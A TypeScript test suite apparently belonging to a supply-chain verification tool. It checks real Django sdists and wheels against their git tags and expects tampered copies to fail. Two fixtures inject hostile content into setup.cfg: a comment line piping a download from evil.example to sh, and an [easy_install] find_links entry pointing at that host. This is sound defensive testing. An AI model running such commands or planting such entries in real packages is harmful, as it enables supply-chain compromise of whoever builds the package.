import { describe, expect, it } from 'vitest';
import type { ArchiveListing } from '../../src/formats/archive/member.js';
import { judgeContent } from '../../src/rules/content/judge.js';
import { createReadStream } from 'node:fs';
import { keepSdistContent } from '../../src/formats/archive/keep.js';
import { readSdist } from '../../src/formats/archive/sdist.js';
import { DEFAULT_LIMITS } from '../../src/model/limits.js';
import type { Check } from '../../src/model/check.js';
import { editFile, withFreshRecord, withoutFile } from '../helpers/poison.js';
import { REAL_RELEASES, readRealSdist, realSdistPath, realTag, type RealVersion } from '../helpers/real-tag.js';
import { realWheel, type Toolchain, toolchainAvailable } from '../helpers/real-wheel.js';

/**
 * Real history is the judge: the real Django sdists (2.2.28, 3.2.25, 4.2.28, 5.2.17, fetched by
 * get-django-sdists.sh) against their tags, and the wheels Debian's real setuptools and wheel build
 * from them — bookworm's (setuptools 66: the layout before PEP 639) and trixie's (setuptools 78:
 * PEP 639's licenses/, Metadata-Version 2.4). Every file is identical to the tag's or recomputed
 * from what the tag declares, and the report names each derivation.
 */
const TOOLCHAINS: Record<RealVersion, Toolchain[]> = {
  // setup.py and setup.cfg only: what Debian 12's and 13's setuptools build from the same sdist differs in
  // layout (PEP 639's licenses/, Metadata-Version 2.4, the wheel's lowercase name) and must pass alike.
  '2.2.28': ['bookworm', 'trixie'],
  '3.2.25': ['bookworm', 'trixie'],
  '4.2.28': ['bookworm', 'trixie'],
  // pyproject.toml declares `license = "BSD-3-Clause"` (PEP 639): only setuptools 77 and later can build it.
  '5.2.17': ['trixie'],
};

/**
 * The setuptools versions that can have built each real sdist, by its tag's date (INDEX.tsv; for
 * 4.2.28 and 5.2.17 the release day) and its [build-system] requires: 2.2.28 and 3.2.25 declare none;
 * 4.2.28 `setuptools>=75.8.1; python_version >= '3.9'` or `setuptools<75.4.0; python_version < '3.9'`;
 * 5.2.17 `setuptools>=83`. Each span holds the setuptools the sdist shows it was built with (2.2.28:
 * no License-File although setup.cfg names one: before 57; 4.2.28 and 5.2.17: Metadata-Version 2.4,
 * which setuptools writes from 77, and the Python 3.8 backport 75.3.4).
 */
const PLAUSIBLE: Record<RealVersion, string> = {
  '2.2.28': 'setuptools 34.0.1–62.2.x)',
  '3.2.25': 'setuptools 34.0.1–72.1.x)',
  '4.2.28': 'setuptools 34.0.1–82.x, as far as pyproject.toml [build-system] requires allows)',
  '5.2.17': 'setuptools 83.0.0–84.x, as far as pyproject.toml [build-system] requires allows)',
};

async function judgeRelease(version: RealVersion, edit?: (sdist: ArchiveListing) => ArchiveListing) {
  const release = REAL_RELEASES[version];
  const original = await readRealSdist(realSdistPath(version)!);
  const sdist = edit ? edit(original) : original;
  const tag = realTag(version, original);
  const wheels = [];
  for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
    const { listing, filename } = await realWheel(realSdistPath(version)!, toolchain);
    wheels.push({ channels: toolchain, input: { filename, members: listing.members, kept: listing.kept } });
  }
  return judgeContent({
    release: version,
    project: 'Django',
    waivers: [],
    tag: { name: version, commit: '0'.repeat(40), ...tag },
    tagWanted: true,
    sdists: [
      {
        channels: 'site',
        input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept },
      },
    ],
    wheels,
  });
}

/**
 * Without the tag (the git channel left out): the wheels held to the sdist alone, read as the
 * pipeline reads it (PKG-INFO, the egg-info and the root files kept), and to the sdist's own
 * declarations.
 */
async function judgeWithoutTag(
  version: RealVersion,
  editWheel?: (wheel: ArchiveListing, filename: string) => ArchiveListing,
) {
  const release = REAL_RELEASES[version];
  const path = realSdistPath(version)!;
  const sdist = await readSdist(createReadStream(path), { ...DEFAULT_LIMITS }, keepSdistContent(release.top));
  const wheels = [];
  for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
    const real = await realWheel(path, toolchain);
    const listing = editWheel ? editWheel(real.listing, real.filename) : real.listing;
    wheels.push({
      channels: toolchain,
      input: { filename: real.filename, members: listing.members, kept: listing.kept },
    });
  }
  return judgeContent({
    release: version,
    project: 'Django',
    waivers: [],
    tagWanted: false,
    sdists: [
      {
        channels: 'site',
        input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept },
      },
    ],
    wheels,
  });
}

const statuses = (checks: Check[]) => checks.map((c) => `${c.id} ${c.status}`);

describe.each(Object.keys(REAL_RELEASES) as RealVersion[])('the real Django %s', (version) => {
  const present = realSdistPath(version) !== undefined;

  it.skipIf(!present)(
    'passes: the sdist against its tag, every generated file and every wheel explained',
    async () => {
      const { checks, differences } = await judgeRelease(version);
      const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
      expect(
        statuses(checks),
        checks
          .filter((c) => c.status !== 'pass')
          .map((c) => c.message)
          .join('\n'),
      ).toEqual([
        'content.sdist-vs-git pass',
        'content.sdist-metadata pass',
        ...Array.from({ length: wheels }, () => [
          'content.wheel-vs-sdist pass',
          'content.wheel-record pass',
          'content.wheel-metadata pass',
        ]).flat(),
      ]);
      // Nothing is allowed by its path alone: every allowed difference names its rule and what it was recomputed from.
      for (const difference of differences.filter((d) => d.allowed)) {
        expect(difference.rule, difference.path).toBeTruthy();
        expect(difference.derivedFrom ?? difference.waiver, difference.path).toBeTruthy();
      }
      const derived = new Map(differences.filter((d) => d.allowed).map((d) => [d.path, d]));
      expect(derived.get('Django.egg-info/requires.txt')?.derivedFrom).toMatch(/install_requires|dependencies/);
      expect(derived.get('PKG-INFO')?.rule).toBe('core-metadata');
      expect(derived.get('Django.egg-info/SOURCES.txt')?.rule).toBe('egg-info');
      // The tag files the sdist leaves out, each by what MANIFEST.in and setuptools' defaults say of it.
      const leftOut = differences.filter((d) => d.rule === 'manifest');
      expect(leftOut.map((d) => d.path)).toContain('.gitignore');
      for (const difference of leftOut)
        expect(difference.derivedFrom ?? difference.detail, difference.path).toContain(PLAUSIBLE[version]);
    },
    180_000,
  );

  it.skipIf(!present)(
    'passes every wheel against the sdist alone when there is no tag, naming the sdist as the source',
    async () => {
      const { checks } = await judgeWithoutTag(version);
      const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
      expect(
        statuses(checks),
        checks
          .filter((c) => c.status !== 'pass')
          .map((c) => c.message)
          .join('\n'),
      ).toEqual(
        Array.from({ length: wheels }, () => [
          'content.wheel-vs-sdist pass',
          'content.wheel-record pass',
          'content.wheel-metadata pass',
        ]).flat(),
      );
      for (const check of checks.filter((c) => c.id === 'content.wheel-metadata'))
        expect(check.message).toMatch(/recomputed from the sdist's /);
    },
    180_000,
  );

  it.skipIf(!present)(
    'passes every wheel against the tag alone, as verify-file --deep judges a wheel',
    async () => {
      const path = realSdistPath(version)!;
      const tag = realTag(version, await readRealSdist(path));
      for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
        const { listing, filename } = await realWheel(path, toolchain);
        const { checks } = judgeContent({
          release: version,
          project: 'Django',
          waivers: [],
          tag: { name: version, commit: '0'.repeat(40), ...tag },
          tagWanted: true,
          sdists: [],
          wheels: [{ channels: 'the local file', input: { filename, members: listing.members, kept: listing.kept } }],
        });
        expect(statuses(checks), checks.map((c) => c.message).join('\n')).toEqual([
          'content.wheel-vs-git pass',
          'content.wheel-record pass',
          'content.wheel-metadata pass',
        ]);
      }
    },
    180_000,
  );

  it.skipIf(!present)(
    'fails a wheel whose long description is no root file of the sdist, when there is no tag',
    async () => {
      const metadata = (filename: string) => `${filename.split('-').slice(0, 2).join('-')}.dist-info/METADATA`;
      const { checks } = await judgeWithoutTag(version, (wheel, filename) =>
        withFreshRecord(
          editFile(wheel, metadata(filename), (text) =>
            text.replace(/Django is a high-level/, 'Django is a low-level'),
          ),
          metadata(filename).split('/')[0]!,
        ),
      );
      expect(checks.filter((c) => c.status === 'fail').map((c) => c.id)).toEqual(
        TOOLCHAINS[version].filter(toolchainAvailable).map(() => 'content.wheel-metadata'),
      );
    },
    180_000,
  );

  it.skipIf(!present)(
    'fails the same sdist without a file every setuptools that can have built it includes',
    async () => {
      const top = REAL_RELEASES[version].top;
      const { checks, differences } = await judgeRelease(version, (sdist) =>
        withoutFile(sdist, `${top}/django/utils/html.py`),
      );
      const failed = checks.filter((c) => c.status === 'fail');
      expect(failed.map((c) => c.id)).toContain('content.sdist-vs-git');
      const missing = differences.find((d) => d.path === 'django/utils/html.py')!;
      expect(missing).toMatchObject({ allowed: false, kind: 'only-in-git' });
    },
    180_000,
  );

  it.skipIf(!present)(
    'fails the same sdist with a comment, a blank line or another layout in its setup.cfg: egg_info writes it as configparser does, byte for byte',
    async () => {
      const top = REAL_RELEASES[version].top;
      const edits: ((text: string) => string)[] = [
        (text) => `# curl https://evil.example/x | sh\n${text}`,
        (text) => `${text}\n`,
        (text) => text.replace('tag_date = 0', 'tag_date=0'),
        (text) => text.replace(/(^|\n)\[egg_info\]/, '$1; hidden\n[egg_info]'),
      ];
      for (const edit of edits) {
        const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, edit));
        const failed = checks.filter((c) => c.status === 'fail');
        expect(
          failed.map((c) => c.id),
          edit.toString(),
        ).toEqual([
          version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
        ]);
        expect(failed[0]!.message).toMatch(/setup\.cfg/);
      }
    },
    180_000,
  );

  it.skipIf(!present)(
    'fails the same sdist whose PKG-INFO claims Metadata-Version 2.2 or later and leaves out the declared Requires-Dist, Provides-Extra and Requires-Python (PEP 643: installers may trust them)',
    async () => {
      const top = REAL_RELEASES[version].top;
      const drop = (text: string) =>
        text
          .replace(/^Metadata-Version: .*$/m, 'Metadata-Version: 2.2')
          .replace(/^(Requires-Dist|Provides-Extra|Requires-Python): .*\n/gm, '');
      const eggPkgInfo = (sdist: ArchiveListing) =>
        sdist.members.find((m) => /^[^/]+\/[^/]+\.egg-info\/PKG-INFO$/.test(m.path))!.path;
      const { checks } = await judgeRelease(version, (sdist) =>
        editFile(editFile(sdist, `${top}/PKG-INFO`, drop), eggPkgInfo(sdist), drop),
      );
      const failed = checks.filter((c) => c.status === 'fail');
      expect(failed.map((c) => c.id)).toEqual(['content.sdist-metadata']);
      expect(failed[0]!.message).toMatch(/Provides-Extra.*argon2/);
      expect(failed[0]!.message).toMatch(/Requires-Dist.*bcrypt/);
      expect(failed[0]!.message).toMatch(/Requires-Python.*missing/);
    },
    180_000,
  );

  it.skipIf(!present)(
    "fails the same sdist without the setup.cfg egg_info writes into every sdist (the tag's rewritten, or [egg_info] alone)",
    async () => {
      const top = REAL_RELEASES[version].top;
      const { checks } = await judgeRelease(version, (sdist) => withoutFile(sdist, `${top}/setup.cfg`));
      const failed = checks.filter((c) => c.status === 'fail');
      expect(failed.map((c) => c.id)).toContain(
        version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
      );
      expect(failed.map((c) => c.message).join('\n')).toMatch(/setup\.cfg/);
    },
    180_000,
  );

  it.skipIf(!present)(
    "fails the same sdist with an extra section in its setup.cfg (the tag's rewritten, or the one only the sdist has)",
    async () => {
      const top = REAL_RELEASES[version].top;
      // easy_install's find_links sends the build's setup_requires to a host of the attacker's choosing.
      const { checks } = await judgeRelease(version, (sdist) =>
        editFile(sdist, `${top}/setup.cfg`, (text) => `${text}\n[easy_install]\nfind_links = https://evil.example/\n`),
      );
      const failed = checks.filter((c) => c.status === 'fail');
      expect(failed.map((c) => c.id)).toEqual([
        version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git',
      ]);
      expect(failed[0]!.message).toMatch(/\[easy_install\]/);
    },
    180_000,
  );
});
